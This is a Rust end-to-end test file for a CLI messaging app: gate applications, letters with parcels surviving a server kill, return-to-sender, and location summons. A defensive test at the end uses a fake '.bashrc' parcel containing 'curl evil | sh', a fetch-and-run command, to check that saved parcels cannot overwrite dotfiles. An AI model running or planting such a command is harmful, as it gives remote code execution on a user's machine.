//! The city end to end with the real binary: an application gate and the tower, a
//! letter with a parcel that survives a SIGKILL of the server the moment after it was
//! acknowledged, and a summons.

use crate::support::{Cli, Server, haurach};

#[test]
fn the_tower_answers_an_application_made_at_the_gate() {
    let server = Server::start_gate("application");
    let cli = Cli::new(&server);
    // The first account is the tower's.
    cli.register("celestia", "purple-dragon");
    let out = cli.ok(&[
        "register",
        "twilight",
        "--password",
        "purple-dragon",
        "--called",
        "Twilight",
        "--family-name",
        "Sparkle...I guess",
        "--from",
        "the desert",
        "--age",
        "19",
        "--calling",
        "Letter Bearer",
        "--note",
        "a pull brought me",
    ]);
    assert!(out.contains("your application is with the tower"), "{out}");
    let err = cli.fails(&["--as", "twilight", "where"]);
    assert!(err.contains("your application is with the tower"), "{err}");
    let out = cli.ok_as("twilight", &["gate", "status"]);
    assert!(out.contains("no answer yet"), "{out}");

    let queue = cli.ok_as("celestia", &["gate", "queue"]);
    assert!(
        queue.contains("twilight (Twilight Sparkle...I guess)"),
        "{queue}"
    );
    assert!(queue.contains("calling: Letter Bearer"), "{queue}");
    let err = cli.fails(&["--as", "twilight", "gate", "queue"]);
    assert!(err.contains("application is with the tower"), "{err}");
    let out = cli.ok_as(
        "celestia",
        &[
            "gate",
            "approve",
            "twilight",
            "--answer",
            "Welcome, letter bearer.",
        ],
    );
    assert_eq!(out.trim(), "twilight is citizen");

    let out = cli.ok_as("twilight", &["gate", "status"]);
    assert!(
        out.contains("the tower approved (celestia): Welcome, letter bearer."),
        "{out}"
    );
    let csv = cli.ok_as("celestia", &["gate", "register", "--csv"]);
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), 3, "{csv}");
    assert!(
        lines[2].starts_with("twilight,Twilight,Sparkle...I guess,the desert,19,Letter Bearer"),
        "{csv}"
    );
}

#[test]
fn haurach_admin_makes_a_tower_account_in_the_data_directory() {
    let server = Server::start_gate("application");
    let cli = Cli::new(&server);
    cli.register("celestia", "purple-dragon");
    let out = haurach()
        .args(["admin", "luna", "--data"])
        .arg(&server.data)
        .env("HAURACH_PASSWORD", "night-dragon")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("luna is in the tower"));
    cli.ok(&["login", "luna", "--password", "night-dragon"]);
    let register = cli.ok_as("luna", &["gate", "register"]);
    assert!(
        register.contains("luna: arrived") && register.contains("by admin, tower"),
        "{register}"
    );
}

#[test]
fn an_acknowledged_letter_and_parcel_survive_a_killed_server() {
    let mut server = Server::start();
    let data_owner = server.keep_data();
    let cli = Cli::new(&server);
    cli.register("spike", "purple-dragon");
    cli.register("amethyst", "purple-dragon");
    let dir = tempfile::tempdir().unwrap();
    let parcel = dir.path().join("box.bin");
    let bytes: Vec<u8> = (0..2_000_000u32).map(|i| (i * 7 % 253) as u8).collect();
    std::fs::write(&parcel, &bytes).unwrap();

    let out = cli.ok_as(
        "spike",
        &[
            "letter",
            "send",
            "amethyst",
            "A box for you",
            "--parcel",
            parcel.to_str().unwrap(),
        ],
    );
    assert!(out.contains("it is in their hands now"), "{out}");
    // Killed the moment after the acknowledgement: no graceful shutdown, no checkpoint.
    server.kill();
    let _server = Server::start_on(&server.data, &server.addr);

    let inbox = cli.ok_as("amethyst", &["letter", "inbox"]);
    assert!(inbox.contains("from spike  unread"), "{inbox}");
    assert!(
        inbox.contains("parcel 0: box.bin (2000000 bytes)"),
        "{inbox}"
    );
    let id = inbox.split_whitespace().next().unwrap();
    let save = tempfile::tempdir().unwrap();
    let out = cli.ok_as(
        "amethyst",
        &[
            "letter",
            "read",
            id,
            "--save",
            save.path().to_str().unwrap(),
        ],
    );
    assert!(out.contains("A box for you"), "{out}");
    assert_eq!(std::fs::read(save.path().join("box.bin")).unwrap(), bytes);
    let sent = cli.ok_as("spike", &["letter", "sent"]);
    assert!(sent.contains("to amethyst  read"), "{sent}");

    // She sends the box back the same way: a reply with the parcel, threaded.
    let out = cli.ok_as(
        "amethyst",
        &[
            "letter",
            "reply",
            id,
            "Sending it back",
            "--parcel",
            save.path().join("box.bin").to_str().unwrap(),
        ],
    );
    assert!(out.contains("replied to spike"), "{out}");
    let thread = cli.ok_as("spike", &["letter", "thread", id]);
    assert_eq!(thread.matches("parcel 0: box.bin").count(), 2, "{thread}");
    drop(data_owner);
}

#[test]
fn return_to_sender_and_a_summons_from_the_command_line() {
    let server = Server::start();
    let cli = Cli::new(&server);
    cli.register("spike", "purple-dragon");
    cli.register("twilight", "purple-dragon");
    cli.ok_as(
        "twilight",
        &["letter", "send", "spike", "Come to the Needle"],
    );
    let inbox = cli.ok_as("spike", &["letter", "inbox"]);
    let id = inbox.split_whitespace().next().unwrap();
    let out = cli.ok_as("spike", &["letter", "return", id]);
    assert_eq!(out.trim(), format!("returned {id} to twilight"));
    let err = cli.fails(&["--as", "spike", "letter", "read", id]);
    assert!(
        err.contains("no letter in your hands or sent by you"),
        "{err}"
    );
    let inbox = cli.ok_as("twilight", &["letter", "inbox"]);
    assert!(inbox.contains("returned to sender"), "{inbox}");

    cli.ok_as("spike", &["move", "46.0", "7.0"]);
    let err = cli.fails(&[
        "--as", "twilight", "summons", "call", "spike", "46.05", "7.0",
    ]);
    assert!(err.contains("not allowed you to summon"), "{err}");
    cli.ok_as("spike", &["summons", "allow", "twilight"]);
    cli.ok_as("twilight", &["summons", "call", "spike", "46.05", "7.0"]);
    let list = cli.ok_as("spike", &["summons", "list"]);
    assert!(list.contains("twilight summons spike: calling"), "{list}");
    assert!(list.contains("twilight is north, 5.6 km away"), "{list}");
    let id = list.split_whitespace().next().unwrap();
    let out = cli.ok_as("spike", &["summons", "accept", id]);
    assert!(out.contains(": accepted"), "{out}");
    let out = cli.ok_as("twilight", &["summons", "end", id]);
    assert!(out.contains(": ended"), "{out}");
}

/// Hardening finding 4: a parcel named `.bashrc` overwrote the reader's `.bashrc`
/// without asking. The sender chooses the name; the reader's files are the reader's.
#[test]
fn a_saved_parcel_neither_overwrites_a_file_nor_lands_as_a_dotfile() {
    let server = Server::start();
    let cli = Cli::new(&server);
    cli.register("spike", "purple-dragon");
    cli.register("amethyst", "purple-dragon");
    let out_dir = tempfile::tempdir().unwrap();
    let sent = out_dir.path().join(".bashrc");
    std::fs::write(&sent, b"curl evil | sh\n").unwrap();
    cli.ok_as(
        "spike",
        &[
            "letter",
            "send",
            "amethyst",
            "Your settings",
            "--parcel",
            sent.to_str().unwrap(),
        ],
    );
    let home = tempfile::tempdir().unwrap();
    std::fs::write(home.path().join(".bashrc"), b"alias ll='ls -l'\n").unwrap();
    std::fs::write(home.path().join("bashrc"), b"notes\n").unwrap();
    let inbox = cli.ok_as("amethyst", &["letter", "inbox"]);
    let id = inbox.split_whitespace().next().unwrap();
    let out = cli.ok_as(
        "amethyst",
        &[
            "letter",
            "read",
            id,
            "--save",
            home.path().to_str().unwrap(),
        ],
    );
    assert_eq!(
        std::fs::read(home.path().join(".bashrc")).unwrap(),
        b"alias ll='ls -l'\n"
    );
    assert_eq!(
        std::fs::read(home.path().join("bashrc")).unwrap(),
        b"notes\n"
    );
    let saved = home.path().join("bashrc (1)");
    assert_eq!(std::fs::read(&saved).unwrap(), b"curl evil | sh\n");
    assert!(
        out.contains(&format!("parcel saved: {}", saved.display())),
        "{out}"
    );
}
